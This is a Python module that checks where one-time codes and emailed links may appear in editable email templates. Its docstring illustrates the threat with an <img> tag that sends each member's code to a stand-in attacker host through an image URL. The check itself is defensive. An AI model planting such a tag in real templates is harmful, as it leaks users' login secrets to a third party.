"""Where an email may print a secret: the one-time code and every emailed link
(docs/security.md#email-escaping).

An editor of the emails can write HTML around the placeholders, so ``<img
src="https://attacker.example/p.gif?c={{ code }}">`` would hand every member's code to a
third party the moment a mail client loads images. A secret may therefore stand only

- as a whole word of text (not inside a longer word or address: ``Your code: 048213.``,
  ``(https://…)``), in the subject, the text part and the text of the HTML part, or
- as the entire ``href`` of an ``<a>`` without ``ping`` (links only, not the code).

Anywhere else (``src``, ``style``, another attribute, a comment, a ``<style>`` or
``<script>``, inside a longer URL) is misplaced. ``email_syntax.validate`` checks this on save
by rendering with random sample secrets; ``emails.render_email`` checks every rendered
editor's email again with the real ones and sends the shipped default instead of a
misplaced one.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

__all__ = ["misplaced_in_html", "misplaced_in_text", "whole_words"]

_RAW_TEXT = {"script", "style"}


def _word(secret: str) -> re.Pattern:
    # Preceded by the start, a space or an opening bracket or quote; followed by closing
    # punctuation (or nothing) and then a space or the end.
    return re.compile(r"(?<![^\s(\[<\"'])" + re.escape(secret) + r"(?=[.,;:!?)\]>\"']*(?:\s|\Z))")


def whole_words(text: str, secret: str) -> int:
    """How often ``secret`` stands as a whole word in ``text``."""
    return len(_word(secret).findall(text))


def misplaced_in_text(text: str, secrets) -> list[str]:
    """The ``secrets`` that occur in ``text`` other than as whole words."""
    return [s for s in secrets if s and text.count(s) != whole_words(text, s)]


def _is_link(secret: str) -> bool:
    return secret.startswith(("https://", "http://"))


class _Placement(HTMLParser):
    def __init__(self, secrets):
        super().__init__(convert_charrefs=True)
        self.secrets = [s for s in secrets if s]
        self.misplaced: set[str] = set()
        self.allowed = dict.fromkeys(self.secrets, 0)
        self.raw_text = False

    def _refuse_in(self, value: str) -> None:
        self.misplaced.update(s for s in self.secrets if s in (value or ""))

    def handle_starttag(self, tag, attrs):
        names = {name for name, _value in attrs}
        for name, value in attrs:
            self._refuse_in(name)
            value = value or ""
            whole = value.strip()
            if self._is_link_href(tag, name, names, whole) and value.count(whole) == 1:
                self.allowed[whole] += 1
                continue
            self._refuse_in(value)
        self.raw_text = tag in _RAW_TEXT

    def _is_link_href(self, tag: str, name: str, names: set, whole: str) -> bool:
        # <a href="{{ link }}">: the entire address, on a link that pings no one.
        return (
            tag == "a"
            and name == "href"
            and "ping" not in names
            and whole in self.allowed
            and _is_link(whole)
        )

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self.raw_text = False

    def handle_endtag(self, tag):
        self.raw_text = False

    def handle_data(self, data):
        if self.raw_text:
            self._refuse_in(data)
            return
        for secret in self.secrets:
            count = data.count(secret)
            if count and count != whole_words(data, secret):
                self.misplaced.add(secret)
            self.allowed[secret] += count

    def handle_comment(self, data):
        self._refuse_in(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def misplaced_in_html(html: str, secrets) -> list[str]:
    """The ``secrets`` that occur in ``html`` anywhere but as whole words of text or as the
    entire ``href`` of a link; also those that occur more often in the source than in the
    places the parser reports (an attribute name, a broken tag)."""
    parser = _Placement(secrets)
    parser.feed(html)
    parser.close()
    for secret in parser.secrets:
        if html.count(secret) > parser.allowed[secret]:
            parser.misplaced.add(secret)
    return [s for s in parser.secrets if s in parser.misplaced]
